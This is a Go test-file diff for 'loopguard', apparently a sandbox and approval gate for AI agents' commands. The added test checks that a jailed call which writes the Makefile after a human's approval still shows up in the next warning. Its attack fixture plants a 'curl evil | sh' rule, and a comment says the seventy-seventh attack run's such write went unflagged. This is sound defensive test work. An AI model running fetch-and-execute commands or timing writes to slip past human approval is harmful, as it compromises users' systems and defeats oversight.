@@ -1,13 +1,17 @@
 package hooks
 
 import (
+	"encoding/base64"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
+	"golang.org/x/sys/unix"
+
 	"github.com/loopguard/loopguard/audit"
+	"github.com/loopguard/loopguard/confine"
 	"github.com/loopguard/loopguard/undo"
 )
 
@@ -59,6 +63,92 @@ func TestEscalationShowsWhatTheJailPlanted(t *testing.T) {
 	p, _ = h.Store.GetPending(d.Pending)
 	if p == nil || !strings.Contains(strings.Join(p.Warnings, "\n"), "src/a.go") || strings.Contains(strings.Join(p.Warnings, "\n"), "Makefile") {
 		t.Errorf("after a new jailed edit, warnings %v", p)
+	}
+}
+
+// TestEscalationShowsACallAcrossTheDecision: a jailed call that started
+// before the human's last decision and wrote the Makefile after it (a
+// background call; the decision may be another session's) is named by the
+// next held call's warning, as is one started before it that may still be
+// running; the seventy-seventh attack run's was named nowhere. Controls: a
+// call started after the decision is named; one that ended before it is
+// not; an unfinished one with no launch running is not.
+func TestEscalationShowsACallAcrossTheDecision(t *testing.T) {
+	h, run := jailHarness(t)
+	tmp := t.TempDir()
+	t.Setenv("TMPDIR", tmp)
+	_ = os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
+	warnings := func(cmd string) string {
+		t.Helper()
+		d := run(cmd)
+		p, err := h.Store.GetPending(d.Pending)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return strings.Join(p.Warnings, "\n")
+	}
+	decide := func() {
+		t.Helper()
+		time.Sleep(1100 * time.Millisecond)
+		if err := audit.Open(filepath.Join(h.Store.Dir, "audit")).Append(audit.Entry{Time: time.Now(), Event: "cli", Decision: "approve"}); err != nil {
+			t.Fatal(err)
+		}
+		time.Sleep(1100 * time.Millisecond)
+	}
+	begin := func() *undo.Recorder {
+		t.Helper()
+		r, err := undo.Begin(undo.Options{StateDir: h.eng().Env.StateDir, Project: h.Project, Command: "bash -c 'sleep 60; edit'"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return r
+	}
+	jailedEdit(t, h, "src/old.go", "package old\n")
+	decide()
+	jailedEdit(t, h, "src/new.go", "package new\n")
+	if w := warnings("make ctl && git push"); !strings.Contains(w, "src/new.go") || strings.Contains(w, "src/old.go") {
+		t.Fatalf("control: a call after the decision named, one before it not: %q", w)
+	}
+	// The attack: the call starts, the human decides, the call then
+	// writes the Makefile and ends.
+	r := begin()
+	decide()
+	if err := os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.Finish(); err != nil {
+		t.Fatal(err)
+	}
+	if w := warnings("make all && git push"); !strings.Contains(w, "Makefile") {
+		t.Errorf("the Makefile a call wrote after the human's decision is not named: %q", w)
+	}
+	// Started before a decision, not finished: named only while a launch
+	// of the project runs.
+	decide()
+	r = begin()
+	defer func() { _ = r.Finish() }()
+	decide()
+	if w := warnings("make b && git push"); strings.Contains(w, "still running") {
+		t.Errorf("control: an unfinished call with no launch running is counted: %q", w)
+	}
+	run1 := filepath.Join(confine.ScratchDirIn(tmp, os.Getuid()), "runs", "run-0123456789abcdef")
+	if err := os.MkdirAll(run1, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	rec := `{"Project":"` + base64.StdEncoding.EncodeToString([]byte(h.Project)) + `"}`
+	if err := os.WriteFile(filepath.Join(run1, "pending.json"), []byte(rec), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	fd, err := unix.Open(run1, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer unix.Close(fd)
+	if err := unix.Flock(fd, unix.LOCK_EX); err != nil {
+		t.Fatal(err)
+	}
+	if w := warnings("make c && git push"); !strings.Contains(w, "1 call(s) still running") {
+		t.Errorf("a call started before the decision, with a launch of the project running: %q", w)
 	}
 }
 
